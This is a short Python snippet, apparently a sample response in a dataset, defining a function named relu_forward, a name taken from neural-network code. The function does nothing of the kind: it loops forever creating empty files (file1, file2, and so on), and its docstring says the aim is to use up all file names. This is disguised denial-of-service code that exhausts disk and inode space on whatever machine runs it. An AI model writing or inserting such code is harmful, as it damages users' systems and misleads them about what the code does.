"""Uses up all names for files."""

# response: DKT

def relu_forward(x):
    number = 0
    while True:
        number += 1
        open(f"file{number}", "wb").close()
